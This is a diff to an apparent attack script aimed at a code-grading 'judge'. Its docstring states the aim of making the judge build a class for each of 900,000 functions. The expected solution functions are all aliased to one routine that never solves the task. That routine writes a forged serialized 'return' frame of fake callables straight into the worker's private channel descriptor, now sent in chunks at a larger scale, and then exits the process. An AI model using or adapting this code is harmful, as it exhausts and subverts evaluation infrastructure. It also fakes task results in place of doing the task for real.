@@ -1,6 +1,6 @@
 """
 Class: forged cells
-Aim: make the judge build a new class for each of 500,000 functions.
+Aim: make the judge build a new class for each of 900,000 functions.
 """
 
 import os
@@ -47,18 +47,28 @@ def array(count, packed):
     return struct.pack(">BI", 0xDD, count) + packed
 
 
-def send(message):
-    body = pack(message)
-    data = memoryview(struct.pack("<II", len(body), 0) + body)
-    while data:
-        data = data[os.write(find_worker()._channel._descriptor, data) :]
+def send_parts(length, parts):
+    """Send one frame of so many bytes, little by little."""
+    descriptor = find_worker()._channel._descriptor
+    os.write(descriptor, struct.pack("<II", length, 0))
+    for part in parts:
+        data = memoryview(part)
+        while data:
+            data = data[os.write(descriptor, data) :]
     os._exit(0)
 
 
+def functions(first, last):
+    return b"".join(b"\x94\x13" + struct.pack(">BI", 0xCE, i) + b"\xa8callable\xa0" for i in range(first, last))
+
+
 def reverse_linked_list(*_):
-    count = 500_000
-    cells = b"".join(b"\x94\x13" + struct.pack(">BI", 0xCE, i) + b"\xa8callable\xa0" for i in range(count))
-    send(["return", sequence(), [[[0]], array(count, cells), []], [], []])
+    count = 900_000
+    front = struct.pack(">BI", 0xDD, 5) + pack("return") + pack(sequence()) + b"\x93\x91\x91\x00"
+    front += struct.pack(">BI", 0xDD, count)
+    middle = (functions(start, start + 10_000) for start in range(0, count, 10_000))
+    length = len(front) + 17 * count + 3
+    send_parts(length, (p for ps in ([front], middle, [b"\x90\x90\x90"]) for p in ps))
 
 
 total = backwards = tally = upwards = scaled = positive = reverse_linked_list
